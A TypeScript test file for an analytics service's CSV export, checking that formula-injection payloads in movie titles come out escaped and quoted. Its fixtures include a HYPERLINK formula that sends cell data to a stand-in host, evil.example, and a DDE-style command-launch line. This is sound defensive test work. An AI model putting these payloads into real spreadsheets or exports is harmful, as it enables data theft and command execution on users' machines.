/**
 * The analytics CSV export against formula injection (OWASP "CSV Injection"): hostile titles come out as quoted
 * text behind a single quote; ordinary text, numbers (negative ones too) and RFC 4180 quoting stay as they were.
 */
import { expect, it } from 'vitest';
import type { AnalyticsRepository } from './analytics.repository.js';
import { toCsv } from '../../lib/csv.js';
import { createAnalyticsService } from './analytics.service.js';

const HOSTILE = [
  ['=HYPERLINK("https://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`],
  ['+1+cmd|/c calc!A0', `"'+1+cmd|/c calc!A0"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
  ['\t=1+1', `"'\t=1+1"`],
  ['\r=1+1', `"'\r=1+1"`],
  ['\uFF1D1+1', `"'\uFF1D1+1"`],
] as const;

it('escapes every cell a spreadsheet would run as a formula, and quotes it', () => {
  for (const [title, cell] of HOSTILE) expect(toCsv(['title'], [[title]]), JSON.stringify(title)).toBe(`title\r\n${cell}\r\n`);
});

it('leaves ordinary text, numbers and negative numbers alone, and quotes as RFC 4180 asks', () => {
  expect(toCsv(['a', 'b', 'c', 'd'], [['Imena', -5, 2.5, 'Hello, "World"'], ['', 0, -0.5, 'a-b=c']])).toBe('a,b,c,d\r\nImena,-5,2.5,"Hello, ""World"""\r\n,0,-0.5,a-b=c\r\n');
});

it('exports hostile titles of the top-titles series escaped, beside their numbers', async () => {
  const none = async () => [];
  const repo = {
    counts: async () => ({ movies: 0, series: 0, profiles: 0, activeSubscriptions: 0 }),
    revenue: async () => ({ perDay: [], perPlan: [] }),
    passesPerDay: async () => ({ sold: [], vouchers: [], complimentary: [] }),
    passEvents: none,
    newUsersPerDay: none,
    paymentOutcomes: none,
    topTitles: async () => HOSTILE.map(([title], i) => ({ id: `id-${i}`, kind: 'movie' as const, title, plays: 7 - i, seconds: 3600 })),
  } as unknown as AnalyticsRepository;
  const analytics = createAnalyticsService({ repo, clock: () => new Date('2026-03-31T10:00:00Z') });
  const { body } = await analytics.csv({ series: 'top_titles', from: '2026-03-01', to: '2026-03-03' });
  const lines = HOSTILE.map(([, cell], i) => `${i + 1},movie,id-${i},${cell},${7 - i},1`);
  expect(body).toBe(['rank,kind,id,title,plays,hours_watched', ...lines, ''].join('\r\n'));
});
